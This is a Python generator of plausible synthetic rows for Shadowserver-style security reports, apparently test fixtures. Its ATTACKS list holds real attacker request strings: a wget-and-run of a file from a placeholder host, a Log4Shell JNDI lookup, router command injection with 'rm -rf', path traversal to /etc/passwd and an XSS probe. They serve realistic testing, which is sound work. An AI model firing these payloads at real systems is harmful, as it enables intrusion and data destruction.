"""Values as real Shadowserver reports hold them, by the name of the column: for make_reports.py --plausible.

The shapes are those of published sample reports: names of places in capitals, tags parted by semicolons, flags as Y and N,
most details of certificates and devices empty. What is odd in real reports is odd here, and about as rare: names of hosts
with underscores or a dash at the end, dates as old devices write them, requests of attackers in URLs, quotation marks that
were escaped twice. Nothing is left out because two programs might read it differently.
"""
import base64
import datetime
import ipaddress
import re

PLACES = (("QA", "AD DAWHAH", "DOHA"), ("QA", "AL WAKRAH", "AL WAKRAH"), ("QA", "الدوحة", "الريان"), ("AE", "DUBAYY", "DUBAI"),
          ("DE", "HESSEN", "FRANKFURT AM MAIN"), ("DE", "BAYERN", "MÜNCHEN"), ("US", "CALIFORNIA", "SAN FRANCISCO"),
          ("US", "VIRGINIA", "ASHBURN"), ("BR", "SAO PAULO", "SÃO PAULO"), ("FR", "ILE-DE-FRANCE", "L'HAY-LES-ROSES"),
          ("PL", "LODZKIE", "ŁÓDŹ"), ("JP", "TOKYO", "東京"), ("TR", "ISTANBUL", "İSTANBUL"), ("GB", "ENGLAND", "London"),
          ("UA", "KHARKIVS'KA OBLAST'", "KHARKIV"), ("KR", "CHUNGCHEONGNAM-DO", "SAGOK-MYEON"), ("CD", "", ""))
SECTORS = ("Communications, Service Provider, and Hosting Service", "Information", "Government", "Retail Trade",
           "Professional, Scientific, and Technical Services", "Transportation and Warehousing", "Educational Services")
NAICS = ("0", "517311", "517312", "518210", "519130", "541512", "454110", "611310")
MALWARE = ("mirai", "andromeda", "avalanche-andromeda", "b68-zeroaccess-2-32bit", "necurs", "virut", "m0yv", "Android.Hummer",
           "sality-p2p", "vpnfilter", "victorygate.b", "adload", "qsnatch", "ranbyus", "socks5systemz", "SmokeLoader", "3ve")
DOMAINS = ("example.com", "example.net", "isp.example.org", "dyn.example.qa", "res.example.co.uk")
IDN_DOMAINS = ("xn--mgbh0fb.xn--wgbl6a", "xn--mnchen-3ya.example", "xn--fiqs8s.example")  # مثال.قطر, münchen, 中国
AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
          "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)", "Go-http-client/1.1", "curl/8.5.0",
          "python-requests/2.32.3", "Hello, world", "Mozilla/5.0 zgrab/0.x", 'Mozilla/5.0 "quoted" (X11; Linux x86_64)')
ORGANISATIONS = ("Let's Encrypt", "DigiCert Inc", "Entrust, Inc.", "Fortinet", "some_org_name", "Universität Wien", "ООО Пример",
                 "شركة مثال", "Hewlett Packard Enterprise", "Internet Widgits Pty Ltd", "Acme \"Best\" Co., Ltd.", "--", "unknown")
PATHS = ("/", "/", "/index.php", "/locator.php", "/favicon.ico", "/login.asp?user=admin&next=%2Fhome", "/news/stream.php",
         "/vpn/index.html", "/api/v1/pods?limit=500", "/wp-content/themes/a/b.php?c=1&d=2#top", "/owa/auth/logon.aspx", "/Mozi.m",
         "/bin/x86.sh", "/js/ueditor/wwwroot/way-board.cgi", "/remote/fgt_lang?lang=en")
ATTACKS = ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws",
           "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "/?x=${jndi:ldap://192.0.2.9:1389/a}",
           "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/", "/../../../../etc/passwd",
           '/search?q="><script>alert(1)</script>', "/a|b^c`d{e}", "/%c0%ae%c0%ae/win.ini", "/صفحة?س=ج", "/a//b/./c/../d")
BANNERS = ("220 FTP Server ready.|", "|MikroTik v6.49.10 (long-term)|Login: ", "220-Welcome, \"guest\"|220 ready", "SSH-2.0-dropbear_2019.78",
           "220 mail.example.com ESMTP Exim 4.96 Wed, 11 Jun 2025 10:00:00 +0300|", "Login: ", "\x1b[2J\x1b[1;1HUser Access Verification",
           "Bienvenue à l'université\t|", "* OK [CAPABILITY IMAP4rev1 STARTTLS, LOGIN-REFERRALS] Dovecot ready.|", "%Bad passwords")
DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
LONG_DAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
DEVICES = (("MikroTik", "router", "RB951Ui-2HnD", "6.49.10"), ("Fortinet", "firewall", "FortiGate", ""),
           ("Hikvision", "IPC", "DS-2CD2043G0-I", "V5.5.82"), ("Synology", "nas", "DS218+", "6.2-25556"),
           ("TP-Link", "router", "Archer C7", ""), ("Microsoft", "email", "Exchange", "15.1.2507"),
           ("HP", "printer", "Color LaserJet MFP M277dw", "20191203"), ("Cisco", "vpn", "ASA 5505", "9.1(7)23"))
CVES = ("cve-2021-26855", "cve-2024-3400", "cve-2023-4966", "cve-2018-10562", "cve-2014-8361", "cve-2022-42475", "cve-2025-0282")


class Escaped(str):
    """A cell that is written as it stands, quotation marks included."""


class Maker:
    """Makes the rows of one report type; what belongs together in a row fits together."""

    def __init__(self, report, rng):
        self.report, self.rng = report, rng
        self.is_v6 = re.search("6(_|$)", report) is not None
        self.severity = self.one(("critical", "high", "medium", "low", "info"))

    def one(self, values):
        return self.rng.choice(values)

    def chance(self, share):
        return self.rng.random() < share

    def word(self, length=8):
        return "".join(self.one("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(length))

    def hex(self, length):
        return f"{self.rng.getrandbits(4 * length):0{length}x}"

    def address(self, is_v6=None):
        """Globally routed, as only such hosts can be reported."""
        while True:
            if self.is_v6 if is_v6 is None else is_v6:
                bits = (self.rng.choice((0x2001, 0x2400, 0x2600, 0x2A02)) << 112) | self.rng.getrandbits(112)
                # Servers have short addresses, customers long ones.
                if self.chance(0.5):
                    bits &= ~((1 << 64) - 1) | 0xFFFF
                found = ipaddress.IPv6Address(bits)
            else:
                found = ipaddress.IPv4Address(self.rng.getrandbits(32))
            if found.is_global and not found.is_multicast:
                return str(found)

    def domain(self):
        return self.one(IDN_DOMAINS if self.chance(0.005) else DOMAINS)

    def inner(self):
        return f"192.168.{self.rng.randint(0, 9)}.{self.rng.randint(1, 254)}"

    def moment(self):
        return datetime.datetime(2026, 11, 22) + datetime.timedelta(seconds=self.rng.randint(0, 86399))

    def stamp(self):
        return self.moment().strftime("%Y-%m-%d %H:%M:%S")

    def earlier(self):
        return (self.moment() - datetime.timedelta(days=self.rng.randint(1, 4000))).strftime("%Y-%m-%d %H:%M:%S")

    def host(self, address):
        """A name as reverse DNS or a certificate gives it."""
        dashed = address.replace(".", "-").replace(":", "-")
        domain = self.domain()
        draw = self.rng.random()
        if draw < 0.002:
            return self.one((f"*.{domain}", f"host-.{domain}", f"-{self.word(3)}.{domain}"))
        if draw < 0.003:
            return address
        if draw < 0.03:
            return f"mail_{self.word(4)}.{domain}"
        if draw < 0.04:
            return f"WIN-{self.word(6).upper()}.{domain}"
        if draw < 0.05:
            return self.one(("localhost", "octopus-dev", "router", "server.local"))
        return self.one((f"{dashed}.{domain}", f"host{dashed}.static.{domain}", f"ip-{dashed}.ec2.internal.{domain}", f"mail.{domain}",
                         f"{self.word()}.{domain}", domain))

    def date_of_web(self):
        """The Date header: nearly always as RFC 9110 wants it, but small devices have their own ideas."""
        when = self.moment()
        if self.chance(0.05):
            when = datetime.datetime(1970, 1, 1) + datetime.timedelta(seconds=self.rng.randint(0, 10 ** 7))
        day, month = DAYS[when.weekday()], MONTHS[when.month - 1]
        clock = when.strftime("%H:%M:%S")
        draw = self.rng.random()
        if draw < 0.005:
            return f"{LONG_DAYS[when.weekday()]}, {when.day:02}-{month}-{when.year % 100:02} {clock} GMT"
        if draw < 0.010:
            return f"{day} {month} {when.day:2} {clock} {when.year}"
        if draw < 0.015:
            return f"{self.one(('Thur', 'Tues', 'Weds'))}, {when.day:02} {month} {when.year} {clock} GMT"
        if draw < 0.020:
            return f"{self.one(DAYS)}, {when.day:02} {month} {when.year} {clock} GMT"  # the weekday of a clock that was set wrong
        if draw < 0.025:
            return f"{day}, {when.day:02} {month} {when.year} {clock} +0300"
        if draw < 0.030:
            return f"{day}, {when.day} {month} {when.year} {clock} UTC"
        if draw < 0.033:
            return self.one(("0", "-1", "unknown", f"{when:%Y-%m-%d %H:%M:%S}", f"{when:%Y-%m-%dT%H:%M:%SZ}"))
        return f"{day}, {when.day:02} {month} {when.year} {clock} GMT"

    def path(self):
        path = self.one(ATTACKS if self.chance(0.05) else PATHS)
        if self.chance(0.2):
            path += f"{'&' if '?' in path else '?'}id={self.hex(12)}"
        return path

    def row(self, columns):
        """`columns`: names with the family of their values. One cell for each."""
        rng = self.rng
        ends = {}
        for side in ("", "src_", "dst_", "http_referer_"):
            # Sinkholes for IPv4 report IPv4 on both sides; a side without an address has none of what follows from it.
            address = self.address()
            place = self.one(PLACES)
            ends[side] = {"ip": address, "hostname": self.host(address) if self.chance(0.68) else "",
                          "asn": str(rng.choice((rng.randint(1, 64495), rng.randint(131072, 401308)))),
                          "geo": place[0], "region": place[1], "city": place[2],
                          "naics": self.one(NAICS), "sector": self.one(SECTORS) if self.chance(0.4) else "",
                          "hostname_source": "", "network": ""}
            if ends[side]["hostname"]:
                ends[side]["hostname_source"] = self.one(("ptr", "ptr", "cert"))
        if self.chance(0.3):
            ends["dst_"] = dict.fromkeys(ends["dst_"], "")
        self.ends, self.device = ends, self.one(DEVICES) if self.chance(0.2) else ("", "", "", "")
        self.malware, self.when = self.one(MALWARE), self.stamp()
        address = self.address()
        self.web_host = rng.choice((f"[{address}]" if ":" in address else address, f"{self.word(11)}.{self.domain()}", f"www.{self.domain()}"))
        if self.chance(0.03):
            self.web_host += f":{rng.choice((80, 8080, 8443))}"
        if self.chance(0.02):
            self.web_host = self.web_host.upper()
        return [self.cell(name, kind) for name, kind in columns.items()]

    def cell(self, name, kind):
        exact = getattr(self, f"of_{name}", None)
        if exact:
            return exact()
        for side in ("src_", "dst_", "http_referer_"):
            if name.startswith(side) and name[len(side):] in self.ends[side]:
                return self.ends[side][name[len(side):]]
        if name in self.ends[""] and name != "network":
            return self.ends[""][name]
        if kind == "convert_bool":
            return self.one((("Y", "N"), ("Y", "N"), ("true", "false"), ("yes", "no"), ("enabled", "disabled"), ("TRUE", "FALSE"), ("1", "0"),
                             ("", ""))[sum(name.encode()) % 8])
        if kind == "convert_float":
            low, high = (1, 90) if "ampl" in name else (-30, 300)
            return "" if self.chance(0.2) else f"{self.rng.uniform(low, high):.{self.rng.randint(0, 4)}f}"
        if kind == "convert_int" or kind == "invalidate_zero":
            return self.number(name)
        return self.text(name)

    def number(self, name):
        rng = self.rng
        if name.endswith("port"):
            if self.report.startswith("event") and self.chance(0.15):
                return ""
            return str(self.one((80, 443, 445, 22, 23, 53, 123, 161, 389, 1900, 3389, 5555, 8080, rng.randint(1, 65535), rng.randint(0, 65535))))
        if self.chance(0.2):
            return ""
        if name == "precision":
            return str(rng.randint(-24, -6))
        if name == "http_code":
            return str(self.one((200, 301, 302, 400, 401, 403, 404, 407, 500, 503)))
        if name == "cert_length":
            return str(self.one((1024, 2048, 4096, 256)))
        if "disk" in name or name in ("bytes", "highest_committed_usn"):
            return str(rng.randint(0, 10 ** 14))
        if name in ("ip_header_seqnum", "sequence", "teid", "ack_number"):
            return str(rng.getrandbits(32))
        return str(self.one((0, 1, 2, rng.randint(0, 255), rng.randint(0, 70000))))

    def text(self, name):
        rng = self.rng
        for ending, length in (("md5", 32), ("sha1", 40), ("sha256", 64), ("sha512", 128)):
            if ending + "_fingerprint" in name:
                return "" if self.chance(0.02) else ":".join(self.hex(2).upper() for _ in range(length // 2))
            if name.endswith(ending) or name == f"page_{ending}fp":
                return "" if self.chance(0.5) else self.hex(length)
        if name.startswith(("subject_", "issuer_")):
            return self.of_certificate(name)
        if name.startswith(("dss_", "ed25519_", "printer_", "mdns_", "spotify_")) and self.chance(0.7) or self.chance(0.3):
            return ""
        if name.startswith(("ecdsa_", "rsa_", "server_s", "server_h", "raw_", "body_", "header_b", "encoded_d")) and "length" not in name:
            return base64.b64encode(rng.randbytes(rng.randint(8, 60))).decode()
        if "ipv6" in name or name == "ipv6_link_local":
            return f"fe80::{self.hex(4).lstrip('0') or '1'}/64" if "link" in name else f"fd09:4ab5:dae9:b078::{rng.randint(1, 99)}"
        if "ipv4" in name or name.endswith(("_address", "_ip", "gateway")) and "mac" not in name:
            return self.one((self.inner(), self.address(False)))
        if "mac" in name and "machine" not in name and "supp" not in name:
            return self.one((":", "-", "")).join(self.hex(2) for _ in range(6))
        if "agent" in name:
            return self.one(AGENTS)
        if name.endswith(("url", "uris", "referer", "location", "website", "redirect_target")):
            return self.one(("http", "https")) + f"://{self.web_host}{self.path()}"
        if "naming_context" in name or name.startswith("ds_service") or name == "subschema_subentry":
            return "CN=Configuration,DC=ad,DC=example,DC=com"
        if name.startswith("supported_") or name in ("available_kex", "available_ciphers", "available_mac", "module", "features", "capabilities"):
            return self.one(("1.2.840.113556.1.4.319|1.2.840.113556.1.4.801", "aes128-ctr, aes192-ctr, aes256-ctr", "3|2", "GSSAPI|EXTERNAL"))
        if "date" in name or name.endswith(("time", "timestamp", "_since")):
            return self.one((self.earlier(), self.earlier(), f"{self.moment():%Y-%m-%dT%H:%M:%SZ}", f"{self.moment():%Y%m%d%H%M%S.0Z}"))
        if "banner" in name or name.endswith(("_response", "motd", "comment", "quote", "message", "reason")):
            return self.one(BANNERS)
        if "version" in name:
            return self.one(("1.0", "2.8.19", "5.7.37-0ubuntu0.18.04.1", "HTTP/1.1", "OpenSSL 1.0.1f 6 Jan 2014", "0", "TLSv1.2", "3.210.1.4",
                             "unknown"))
        if name.endswith(("name", "info", "organization", "contact", "essid", "ssid")):
            return self.one(("NAS-OLD", "Büro (Küche)", "AirPort Time Capsule de jack", "SERWER", "مكتب", "Tailynn-Kadija, Noreen", "7",
                             "node01.local.", "\\\\ILONY\\pipe\\MSSQL$INSERTGT\\sql\\query", 'TV "Wohnzimmer"', "unknown"))
        if name.endswith(("length", "size", "code", "number", "id", "count", "flags", "type", "port", "minor", "major")):
            return self.one(("0", "00", "1", str(rng.randint(2, 9000)), "0x0000", f"{self.hex(8)}", "05"))
        return self.one((self.word(), self.hex(16), "N/A", "-", "0", "1", "unknown", "Y", "GET", "none", "system|Backup system;mysql",
                         "a, b, c", f"uuid:{self.hex(8)}-{self.hex(4)}::upnp:rootdevice", "SupportsCopyFile,SupportsChgPwd", "en_US",
                         "Linux 3.18.20 armv7l"))

    def of_certificate(self, name):
        if name.endswith("common_name"):
            return self.one((f"{self.word()}.example.com", "*.example.com", "usg20_107BEF394BA5", "R11", "مثال.قطر", "Default RSA CA, unit"))
        if self.chance(0.6):
            return ""
        if name.endswith("country"):
            return self.one(("QA", "US", "DE", "--", "at"))
        if name.endswith("email_address"):
            return self.one(("admin@example.com", "ssl@example.net", "none"))
        if name.endswith(("postal_code", "serial_number")):
            return self.one(("1130", self.hex(16).upper()))
        if name.endswith(("locality_name", "province_name", "street_address")):
            return self.one(("Doha", "Wien", "SomeCity", "Some-State", "Zürich", "Main St. 5, 3rd floor", "unknown"))
        return self.one(ORGANISATIONS)

    # Columns of their own kind, by name.

    def of_timestamp(self):
        return self.when

    def of_severity(self):
        return self.severity if self.chance(0.95) else self.one(("critical", "high", "medium", "low", "info", ""))

    def of_protocol(self):
        if "tunnel" in self.report:
            return self.one(("ipip", "gre", "ipv6"))
        return self.one(("udp", "tcp", "tcp", "tcp", "")) if self.report.startswith("event") else self.one(("udp", "tcp"))

    def of_ip(self):
        address = self.ends[""]["ip"]
        if self.report == "blocklist" and self.chance(0.3):  # it lists networks too
            return str(ipaddress.ip_network(f"{address}/{self.one((24, 27, 32))}", strict=False))
        return address

    def of_network(self):
        end = self.ends["src_" if "event" in self.report else ""]["ip"]
        return str(ipaddress.ip_network(f"{end}/{48 if ':' in end else self.one((22, 24, 27))}", strict=False))

    def of_dst_network(self):
        return "" if self.chance(0.4) else f"{self.address(False)}/32"

    def of_dst_netmask(self):
        return "" if self.chance(0.4) else "32"

    def of_tag(self):
        base = self.report.split("_", 1)[-1].replace("_", "-")
        if "exchange" in self.report:
            return self.one(("exchange;" + ";".join(self.rng.sample(CVES, 2)), "exchange;webshell", "exchange;cve-2021-26855"))
        if self.chance(0.1):
            return f"{base};{self.one(CVES)}" + (f";{self.one(CVES)}" if self.chance(0.3) else "")
        return self.one((base, base, f"{base};iot", f"{base},vpn", "" if self.chance(0.3) else base))

    def of_infection(self):
        return self.malware if self.chance(0.9) else ""

    def of_family(self):
        return self.malware.split("-")[-1] if self.chance(0.5) else ""

    def of_application(self):
        return self.one(("http", "https", "http", "ssh", "dns", "mirai", "")) if "web" in self.report or "url" in self.report else \
            self.one(("", "", "https", "ssh", "telnet"))

    def of_version(self):
        return self.one(("", "4", "5.0", "2.8.19", "unknown", "0")) if "msrpc" not in self.report else self.one(("5.0", "5", ""))

    def of_url(self):
        if self.report in ("malware_url", "phish_url", "sandbox_url", "spam_url"):
            return f"{self.one(('http', 'https'))}://{self.web_host}{self.path()}"
        return self.path() if self.chance(0.8) else ""

    def of_http_url(self):
        draw = self.rng.random()
        if draw < 0.2:
            return ""
        if draw < 0.7:
            return self.path()
        return f"{self.one(('GET', 'GET', 'POST'))} {self.path()} HTTP/1.{self.one('01')}"

    def of_http_host(self):
        return self.web_host if self.chance(0.95) else ""

    def of_http_date(self):
        return self.date_of_web() if self.chance(0.88) else ""

    def of_date(self):
        return self.date_of_web() if self.chance(0.8) else ""

    def of_systime(self):
        return self.of_date()

    def of_start_time(self):
        return self.moment().strftime("%Y-%m-%dT%H:%M:%S") + f".{self.rng.randint(0, 999999):06}Z"

    def of_end_time(self):
        if self.chance(0.27):
            return ""
        return self.of_start_time() if "brute" in self.report else self.stamp()

    def of_cc_dns(self):
        return self.web_host

    def of_src_port(self):
        return str(self.rng.randint(1024, 65535)) if self.chance(0.82) else ""

    def of_dst_port(self):
        return self.number("dst_port")

    def of_device_vendor(self):
        return self.device[0]

    def of_device_type(self):
        return self.device[1]

    def of_device_model(self):
        return self.device[2]

    def of_device_version(self):
        return self.device[3]

    def of_device_sector(self):
        return self.one(("", "", "consumer", "enterprise"))

    def of_username(self):
        return self.one(("", "root", "admin", "NAS-OLD", "Jürgen", "user@example.com", "Administrator"))

    def of_password(self):
        return self.one(("", "", "admin", "123456", "p\"w,d;", "-", "0", "password "))

    def of_email(self):
        return f"{self.word()}@{self.domain()}"

    def of_detail(self):
        return self.one(("", "", "repositoryformatversion = 0;filemode = false;bare = false", "user: \"admin\", role: owner", "کاربر"))

    def of_category(self):
        return self.one(("", "phishing", "spam", "stealer", "webshell"))

    def of_status(self):
        return self.one(("", "likely compromised", "compromised", "Linux 3.0.101-100-default", "1 user,  load: 6,5, 6,6, 6,6"))

    def of_account(self):
        return self.one(("", "", "root", "support"))

    def of_www_authenticate(self):
        if self.chance(0.6):
            return ""
        # As published samples have it: quotation marks doubled, and a backslash before each of the two.
        return self.one(('Basic realm="example.com"', "NTLM", 'Digest realm="a, b", qop="auth"', Escaped(r'"Basic realm=\"\"OpenWebif\"\""')))

    def of_proxy_authenticate(self):
        return self.of_www_authenticate()

    def of_http_info(self):
        return self.one(("", Escaped(r'"\"\"vendor=Synology\"\" \"\"model=DS218+\"\""'), "path=/"))

    def of_set_cookie(self):
        return "" if self.chance(0.8) else f"sid={self.hex(32)}; path=/; expires=Fri, 01 Jan 2038 00:00:00 GMT; HttpOnly"

    def of_event_id(self):
        return "" if self.chance(0.8) else str(1614816002 + self.rng.randint(0, 10 ** 8))

    def of_request_raw(self):
        request = f"GET {self.path()} HTTP/1.1\r\nHost: {self.web_host}\r\nUser-Agent: {self.one(AGENTS)}\r\n\r\n"
        return self.one(("", base64.b64encode(request.encode()).decode(), request.replace("\r\n", "rn")))

    def of_body_raw(self):
        return self.one(("", "", base64.b64encode(b"cmd=id&x=" + self.word().encode()).decode(), "a=1&b=2"))

    def of_vulnerability_score(self):
        return self.one(("", "9.8", "7.5", "10", "10.0", "5"))

    def of_vulnerability_id(self):
        return self.one(("", "CVE-2021-44228", "CVE-2017-17215", "CVE-2014-8361;CVE-2018-10562"))

    def of_query(self):
        return "".join(self.one((c.upper(), c)) for c in f"{self.word(6)}.com")  # names are asked for in mixed case on purpose

    def of_query_type(self):
        return self.one(("A", "AAAA", "TXT", "NS"))

    def of_cert_serial_number(self):
        return self.hex(self.one((2, 8, 16, 32))).upper()

    def of_cert_issue_date(self):
        return self.earlier()

    def of_cert_expiration_date(self):
        return self.one((self.earlier(), "2034-06-20 00:00:42", "9999-12-31 23:59:59"))

    def of_validation_level(self):
        return self.one(("unknown", "unknown", "DV", "OV", ""))

    def of_handshake(self):
        return self.one(("TLSv1.2", "TLSv1.0", "SSLv3", ""))

    def of_cipher_suite(self):
        return self.one(("TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_RSA_WITH_RC4_128_SHA"))

    def of_signature_algorithm(self):
        return self.one(("sha256WithRSAEncryption", "sha1WithRSAEncryption", "ecdsa-with-SHA256"))

    def of_content_type(self):
        return self.one(("text/html", "text/html; charset=UTF-8", "text/html;charset=utf-8", "application/json", ""))

    def of_visible_databases(self):
        return self.one(("local | admin | config", "none visible", "READ__ME_TO_RECOVER_YOUR_DATA", ""))

    def of_sic(self):
        return self.one(("0", "0", "", "737401", "737415"))
